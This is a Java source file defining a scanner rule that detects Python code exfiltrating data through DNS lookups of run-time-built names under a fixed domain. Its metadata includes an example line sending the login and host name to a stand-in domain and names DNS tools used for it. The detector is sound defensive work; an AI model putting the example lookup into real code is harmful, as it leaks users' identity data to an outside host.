package dev.kingsnake.rules.network;

import dev.kingsnake.Confidence;
import dev.kingsnake.Severity;
import dev.kingsnake.spi.FindingSink;
import dev.kingsnake.spi.PythonFile;
import dev.kingsnake.spi.PythonFileRule;
import dev.kingsnake.spi.RuleContext;
import dev.kingsnake.spi.RuleInfo;
import dev.kingsnake.spi.Tags;
import dev.kingsnake.spi.facts.CallFacts;
import dev.kingsnake.spi.facts.Capability;
import dev.kingsnake.spi.facts.Destinations;
import dev.kingsnake.spi.python.Expr;

import java.util.Optional;
import java.util.Set;

/** Data smuggled out in DNS names: a lookup of a host name built from values and a fixed domain. */
public final class DnsExfilRule implements PythonFileRule {

    private static final RuleInfo INFO = new RuleInfo("KS-NET-DNS-EXFIL",
            "Looks up a DNS name built at run time under a fixed domain (data leaves in the host name), through "
                    + "a resolver call or a DNS tool run as a process (dig, nslookup, host, ping)",
            Severity.MEDIUM, Confidence.MEDIUM, Set.of(Tags.NETWORK, Tags.EXFILTRATION),
            "socket.gethostbyname(f'{os.getlogin()}.{socket.gethostname()}.collect.example.invalid')",
            "Resolving a host name held in a variable is normal and not reported; only names assembled from values "
                    + "plus a constant domain suffix are. Service-discovery code that builds names like "
                    + "'{service}.{namespace}.svc.cluster.local' can match (medium weight).");

    @Override
    public RuleInfo info() {
        return INFO;
    }

    @Override
    public void check(PythonFile file, RuleContext ctx, FindingSink sink) {
        CallFacts facts = CallFacts.of(file);
        if (!facts.fileCaps().contains(Capability.DNS)) {
            return;
        }
        for (CallFacts.CallFact c : facts.calls()) {
            if (!c.is(Capability.DNS)) {
                continue;
            }
            if (Destinations.lookedUpName(facts, c).isEmpty()) {
                continue;
            }
            boolean sourced = facts.scopeHas(c.scope(), Capability.FINGERPRINT)
                    || facts.scopeHas(c.scope(), Capability.ENV_ALL);
            sink.report(file, c.call(), "puts run-time data into a DNS name under a fixed domain",
                    sourced ? Severity.HIGH : Severity.MEDIUM,
                    sourced ? Confidence.HIGH : Confidence.MEDIUM);
        }
    }
}
